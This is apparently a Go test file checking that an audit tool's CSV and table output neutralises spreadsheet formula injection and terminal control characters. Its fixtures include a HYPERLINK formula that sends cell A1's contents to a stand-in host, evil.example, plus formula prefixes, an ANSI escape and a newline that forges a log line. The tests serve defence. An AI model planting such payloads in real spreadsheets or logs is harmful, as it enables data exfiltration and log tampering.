package output_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/opetushallitus/mpass-audit/internal/mpass"
	"github.com/opetushallitus/mpass-audit/internal/output"
)

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"-2+3":                "'-2+3",
		"+1":                  "'+1",
		"@SUM(1)":             "'@SUM(1)",
		"\t=1":                `'\t=1`,
		"\r=1":                `'\r=1`,
		"\n=1":                `'\n=1`,
		"  =1+1":              "'  =1+1",
		"＝1+1":                "'＝1+1",
		"sp\x1b[31m\nx":       `sp\x1b[31m\nx`,
		"https://sp.example/": "https://sp.example/",
		"u-0002":              "u-0002",
		"a=b":                 "a=b",
		"   ":                 "   ",
		"":                    "",
	} {
		if got := output.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is the sample plus one finding whose SP id, record id and attribute are what
// an attacker could put in a log line: formulas, an ANSI escape and a newline.
func hostile() *output.Report {
	r := sample()
	f := mpass.Finding{ID: "f3", Term: "no-age-inference", Rule: "age-revealing-value", Result: "fail", Severity: "critical",
		Record: "-2+3", Kind: mpass.KindRelease, Time: time.Date(2026, 10, 5, 8, 0, 0, 0, time.UTC),
		SP: "=HYPERLINK(\"http://evil.example\")\x1b[31m\nforged line", Controller: "c1", Attribute: "@SUM(1)", Change: "new"}
	prev := r.Findings
	r.Findings = func(fn func(*mpass.Finding) error) error {
		if err := prev(fn); err != nil {
			return err
		}
		return fn(&f)
	}
	return r
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := (output.CSV{}).Output(&buf, hostile()); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(buf.String(), "\x1b\r") {
		t.Errorf("a control character reached the CSV: %q", buf.String())
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := rows[len(rows)-1]
	for col, want := range map[int]string{4: `'=HYPERLINK("http://evil.example")\x1b[31m\nforged line`, 6: "'-2+3", 9: "'@SUM(1)"} {
		if row[col] != want {
			t.Errorf("column %d = %q, want %q", col, row[col], want)
		}
	}
}

func TestTableEscapesControls(t *testing.T) {
	var buf bytes.Buffer
	if err := (output.Table{}).Output(&buf, hostile()); err != nil {
		t.Fatal(err)
	}
	s := buf.String()
	if strings.ContainsAny(s, "\x1b\r") || strings.Contains(s, "\nforged line") {
		t.Errorf("a control character reached the table:\n%q", s)
	}
	if !strings.Contains(s, `=HYPERLINK("http://evil.example")\x1b[31m\nforged line`) {
		t.Errorf("the SP id is not shown escaped:\n%s", s)
	}
}
